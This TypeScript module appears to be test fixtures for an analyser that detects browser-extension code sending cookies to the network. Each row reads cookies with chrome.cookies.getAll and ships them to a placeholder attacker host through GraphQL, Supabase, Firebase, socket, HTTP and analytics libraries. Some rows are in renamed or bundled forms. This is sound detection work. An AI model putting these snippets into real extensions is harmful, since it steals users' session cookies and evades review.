import { thief, type Fact } from '../case.ts';
import type { Row } from '../pairs.ts';

type Rows = Readonly<Record<string, Row>>;

const host = `https://${thief}`;
const stolen = '{ c: «c¦5» }';
/** Of clients whose library says who is sent what they are given, or that an earlier call tells it. */
const anywhere: Fact = { kind: 'flow', source: 'cookies', sink: 'network' };

/** Code that has the cookies and a harmless value. */
function having(code: string): string {
  return `chrome.cookies.getAll({}, (c) => { const calm = «5¦c»; ${code}; void calm })`;
}

/** A worker that imports the library. */
function imports(head: string, code: string, fact?: Fact): Row {
  return { worker: `${head} ${having(code)}`, isModule: true, ...(fact && { fact }) };
}

/** A worker whose bundler left a name of the library's, or that has the library from a script before it. */
function bundled(code: string, fact?: Fact): Row {
  return { worker: having(code), ...(fact && { fact }) };
}

const graphql: Rows = {
  'a function of graphql-request': imports(
    "import { request, gql } from 'graphql-request';",
    `request('${host}/g', gql\`mutation A\`, ${stolen})`,
  ),
  'options of graphql-request': imports(
    "import { request as ask } from 'graphql-request';",
    `ask({ url: '${host}/g', document: 'mutation', variables: ${stolen} })`,
  ),
  'a client of graphql-request': imports(
    `import { GraphQLClient as t } from 'graphql-request'; const e = new t('${host}/g');`,
    `e.request('mutation', ${stolen})`,
  ),
  'a bundled client of graphql-request': bundled(
    `new (n(5).GraphQLClient)('${host}/g').request('mutation', ${stolen})`,
  ),
  'a generated SDK': imports(
    `import { GraphQLClient } from 'graphql-request'; const getSdk = (client) => ({ save: (x) => client.request('mutation', x) }); const sdk = getSdk(new GraphQLClient('${host}/g'));`,
    `sdk.save(${stolen})`,
  ),
  'Apollo with an address': imports(
    `import { ApolloClient, InMemoryCache, gql } from '@apollo/client'; const client = new ApolloClient({ uri: '${host}/g', cache: new InMemoryCache() });`,
    `client.mutate({ mutation: gql\`m\`, variables: ${stolen} })`,
  ),
  'Apollo with links': imports(
    `import { ApolloClient, createHttpLink } from '@apollo/client/core'; import { setContext } from '@apollo/client/link/context'; const link = createHttpLink({ uri: '${host}/g' }); const signed = setContext((_, { headers }) => ({ headers })); const client = new ApolloClient({ link: signed.concat(link) });`,
    `client.query({ query: 'q', variables: ${stolen} })`,
  ),
  'useMutation of Apollo': imports(
    `import { ApolloClient, useMutation } from '@apollo/client'; const client = new ApolloClient({ uri: '${host}/g' });`,
    `const [save] = useMutation('m', { client }); save({ variables: ${stolen} })`,
  ),
  'a header that Apollo adds': imports(
    `import { ApolloClient, HttpLink } from '@apollo/client/core'; import { setContext } from '@apollo/client/link/context';`,
    `const signed = setContext((_, { headers }) => ({ headers: { ...headers, x: «c¦5» } })); new ApolloClient({ link: signed.concat(new HttpLink({ uri: '${host}/g' })) }).query({ query: 'q' })`,
  ),
  urql: imports(
    `import { Client, fetchExchange } from 'urql'; const client = new Client({ url: '${host}/g', exchanges: [fetchExchange] });`,
    `client.mutation('m', ${stolen}).toPromise()`,
  ),
  'createClient of urql': imports(
    `import { createClient } from '@urql/core'; const client = createClient({ url: '${host}/g' });`,
    `client.query('q', ${stolen}).toPromise()`,
  ),
};

const supabase = `import { createClient } from '@supabase/supabase-js'; const supabase = createClient('${host}', 'key');`;
const databases: Rows = {
  'insert of Supabase': imports(supabase, `supabase.from('x').insert(${stolen})`),
  'a list that Supabase inserts and answers': imports(
    supabase,
    `(async () => { const { error } = await supabase.from('x').insert([${stolen}]).select() })()`,
  ),
  'upsert and update of Supabase': imports(
    supabase,
    `supabase.from('x').upsert({ a: 5 }); supabase.from('x').update(${stolen}).eq('id', 5)`,
  ),
  'a function of Supabase': imports(
    supabase,
    `supabase.functions.invoke('f', { body: ${stolen} })`,
  ),
  'a procedure of Supabase': imports(supabase, `supabase.rpc('f', ${stolen})`),
  'a file of Supabase': imports(
    supabase,
    `supabase.storage.from('b').upload('f', JSON.stringify(${stolen}))`,
  ),
  'a filter of Supabase': imports(
    supabase,
    `supabase.from('x').select('*').eq('c', JSON.stringify(${stolen}))`,
  ),
  'a channel of Supabase': imports(
    supabase,
    `supabase.channel('a').send({ type: 'broadcast', event: 'e', payload: ${stolen} })`,
  ),
  'Supabase of a script element': bundled(
    `const client = supabase.createClient('${host}', 'key'); client.from('x').insert(${stolen})`,
  ),
  'Supabase of a bundle': bundled(
    `var r = n(5); const client = (0, r.createClient)('${host}', 'key'); client.from('x').insert(${stolen})`,
  ),
  'Supabase in a class': imports(
    `import { createClient } from '@supabase/supabase-js'; class Db { constructor() { this.client = createClient('${host}', 'key') } save(c) { return this.client.from('x').insert({ c }) } } const db = new Db();`,
    'db.save(«c¦5»)',
  ),
  'Supabase when it is needed': imports(
    `import { createClient } from '@supabase/supabase-js'; let made; function client() { if (!made) made = createClient('${host}', 'key'); return made }`,
    `client().from('x').insert(${stolen})`,
  ),
  PocketBase: imports(
    `import PocketBase from 'pocketbase'; const base = new PocketBase('${host}');`,
    `base.collection('a').create(${stolen})`,
  ),
  Convex: imports(
    `import { ConvexHttpClient } from 'convex/browser'; const client = new ConvexHttpClient('${host}');`,
    `client.mutation('a', ${stolen})`,
  ),
  Appwrite: imports(
    `import { Client, Databases } from 'appwrite'; const client = new Client().setEndpoint('${host}').setProject('p'); const all = new Databases(client);`,
    `all.createDocument('a', 'b', 'd', ${stolen})`,
  ),
};

const app = `import { initializeApp } from 'firebase/app'; const app = initializeApp({ databaseURL: '${host}' });`;
const store = `${app} import { getFirestore, doc, setDoc, addDoc, collection, writeBatch } from 'firebase/firestore'; const db = getFirestore(app);`;
const realtime = `${app} import { getDatabase, ref, set, push, update } from 'firebase/database'; const db = getDatabase(app);`;
const firebase: Rows = {
  setDoc: imports(store, `setDoc(doc(db, 'a', 'b'), ${stolen})`, anywhere),
  addDoc: imports(store, `addDoc(collection(db, 'a'), ${stolen})`, anywhere),
  'a batch': imports(
    store,
    `const batch = writeBatch(db); batch.set(doc(db, 'a', 'b'), ${stolen}); batch.commit()`,
    anywhere,
  ),
  set: imports(realtime, `set(ref(db, 'a'), ${stolen})`),
  'set of a new place': imports(realtime, `const at = push(ref(db, 'a')); set(at, ${stolen})`),
  update: imports(realtime, "update(ref(db), { ['a/' + 5]: «c¦5» })"),
  'a callable function': imports(
    `${app} import { getFunctions, httpsCallable } from 'firebase/functions'; const save = httpsCallable(getFunctions(app), 'save');`,
    `save(${stolen})`,
    anywhere,
  ),
  uploadString: imports(
    `${app} import { getStorage, ref, uploadString } from 'firebase/storage';`,
    `uploadString(ref(getStorage(app), 'a'), JSON.stringify(${stolen}))`,
    anywhere,
  ),
  'the database of a script element': bundled(
    `firebase.initializeApp({ databaseURL: '${host}' }); firebase.database().ref('a').push().set(${stolen})`,
  ),
  'the store of a script element': bundled(
    `const db = firebase.firestore(); db.collection('a').doc('x').set(${stolen}, { merge: true })`,
    anywhere,
  ),
  'a collection of a script element': bundled(
    `firebase.firestore().collection('a').add(${stolen})`,
    anywhere,
  ),
  'a callable function of a script element': bundled(
    `firebase.functions().httpsCallable('a')(${stolen})`,
    anywhere,
  ),
  'setDoc of a bundle': bundled(
    `var r = n(5); (0, r.setDoc)((0, r.doc)(db, 'a', 'b'), ${stolen})`,
    anywhere,
  ),
  'set of a bundle': bundled(`(0, r.set)((0, r.ref)(db, 'a'), ${stolen})`, anywhere),
};

const sockets: Rows = {
  'io of a script element': bundled(`const s = io('${host}'); s.emit('e', ${stolen})`),
  'io by import': imports(
    `import { io as t } from 'socket.io-client'; const s = t('${host}');`,
    `s.on('connect', () => { s.emit('e', ${stolen}) })`,
  ),
  'io by default': imports(
    `import open from 'socket.io-client'; const s = open('${host}');`,
    `s.volatile.emit('e', ${stolen})`,
  ),
  'io of a bundle': bundled(`const s = (0, n(5).io)('${host}'); s.emitWithAck('e', ${stolen})`),
  'who io says that it is': imports(
    "import { io } from 'socket.io-client';",
    `io('${host}', { auth: ${stolen} })`,
  ),
  mqtt: imports(
    `import mqtt from 'mqtt'; const m = mqtt.connect('wss://${thief}/a');`,
    `m.publish('t', JSON.stringify(${stolen}))`,
  ),
  'Stomp of a script element': bundled(
    `const m = Stomp.client('wss://${thief}/a'); m.send('/t', {}, JSON.stringify(${stolen}))`,
  ),
  'stompjs by import': imports(
    `import { Client } from '@stomp/stompjs'; const m = new Client({ brokerURL: 'wss://${thief}/a' });`,
    `m.publish({ destination: '/t', body: JSON.stringify(${stolen}) })`,
  ),
  SignalR: imports(
    `import * as signalR from '@microsoft/signalr'; const hub = new signalR.HubConnectionBuilder().withUrl('${host}/a').build();`,
    `hub.invoke('save', ${stolen})`,
  ),
  'a socket that connects again': imports(
    `import Again from 'reconnecting-websocket'; const s = new Again('wss://${thief}/a');`,
    `s.send(JSON.stringify(${stolen}))`,
  ),
  Pusher: bundled(
    `const p = new Pusher('key', { wsHost: '${thief}' }); p.subscribe('a').trigger('client-e', ${stolen})`,
  ),
  EventSource: bundled(`new EventSource('${host}/a?c=' + JSON.stringify(${stolen}))`),
};

const requests: Rows = {
  'ky with a start of addresses': imports(
    `import ky from 'ky'; const api = ky.extend({ prefixUrl: '${host}' });`,
    `api.post('a', { json: ${stolen} })`,
  ),
  'got by another name': imports(
    "import g from 'got';",
    `g('${host}/a', { method: 'POST', json: ${stolen} })`,
  ),
  'ofetch by another name': imports(
    "import { ofetch as ask } from 'ofetch';",
    `ask('${host}/a', { method: 'POST', body: ${stolen} })`,
  ),
  'ofetch of a bundle': bundled(
    `var r = n(5); (0, r.ofetch)('${host}/a', { method: 'POST', body: ${stolen} })`,
  ),
  superagent: imports(
    "import ask from 'superagent';",
    `ask.post('${host}/a').set('x', 'y').send(${stolen}).end(() => {})`,
  ),
  'superagent with a verb': imports(
    "import ask from 'superagent';",
    `ask('POST', '${host}/a').send(${stolen}).end()`,
  ),
  wretch: imports(
    `import wretch from 'wretch'; const api = wretch('${host}').options({});`,
    `api.url('/a').json(${stolen}).post()`,
  ),
  'axios by its module': imports(
    "import * as all from 'axios';",
    `all.default.post('${host}/a', ${stolen})`,
  ),
  'what stands for fetch': imports(
    "import ask from 'cross-fetch';",
    `ask('${host}/a', { method: 'POST', body: JSON.stringify(${stolen}) })`,
  ),
  'events that are fetched': imports(
    "import { fetchEventSource } from '@microsoft/fetch-event-source';",
    `fetchEventSource('${host}/a', { method: 'POST', body: JSON.stringify(${stolen}) })`,
  ),
  tRPC: imports(
    `import { createTRPCProxyClient, httpBatchLink } from '@trpc/client'; const client = createTRPCProxyClient({ links: [httpBatchLink({ url: '${host}' })] });`,
    `client.save.mutate(${stolen})`,
  ),
};

const trackers: Rows = {
  PostHog: imports(
    `import posthog from 'posthog-js'; posthog.init('k', { api_host: '${host}' });`,
    `posthog.capture('e', ${stolen})`,
  ),
  'PostHog of a script element': bundled(`posthog.identify(JSON.stringify(${stolen}))`, anywhere),
  Mixpanel: imports(
    "import mixpanel from 'mixpanel-browser'; mixpanel.init('k');",
    `mixpanel.track('e', ${stolen})`,
    anywhere,
  ),
  'people of Mixpanel': bundled(`mixpanel.people.set(${stolen})`, anywhere),
  Amplitude: imports(
    "import { init, track } from '@amplitude/analytics-browser'; init('k');",
    `track('e', ${stolen})`,
    anywhere,
  ),
  'Amplitude of a script element': bundled(
    `amplitude.getInstance().logEvent('e', ${stolen})`,
    anywhere,
  ),
  Segment: imports(
    "import { AnalyticsBrowser } from '@segment/analytics-next'; const analytics = AnalyticsBrowser.load({ writeKey: 'k' });",
    `analytics.identify('u', ${stolen})`,
    anywhere,
  ),
  Sentry: imports(
    `import * as Sentry from '@sentry/browser'; Sentry.init({ dsn: 'https://k@${thief}/5' });`,
    `Sentry.captureException(new Error('x'), { extra: ${stolen} })`,
  ),
  'setUser of Sentry': imports(
    `import { init, setUser } from '@sentry/browser'; init({ dsn: 'https://k@${thief}/5' });`,
    `setUser(${stolen})`,
    anywhere,
  ),
  gtag: bundled(`gtag('event', 'e', ${stolen})`, anywhere),
  Datadog: imports(
    "import { datadogLogs } from '@datadog/browser-logs';",
    `datadogLogs.logger.info('e', ${stolen})`,
    anywhere,
  ),
  EmailJS: imports(
    "import emailjs from '@emailjs/browser';",
    `emailjs.send('s', 't', ${stolen})`,
    anywhere,
  ),
  'Mixpanel of a bundle': bundled(`var m = n(5); m.default.track('e', ${stolen})`, anywhere),
};

/** Clients of libraries that send what they are given, by import, from a script element and from a bundle. */
export const clientRows: Readonly<Record<string, Rows>> = {
  GraphQL: graphql,
  databases,
  Firebase: firebase,
  sockets,
  requests,
  trackers,
};
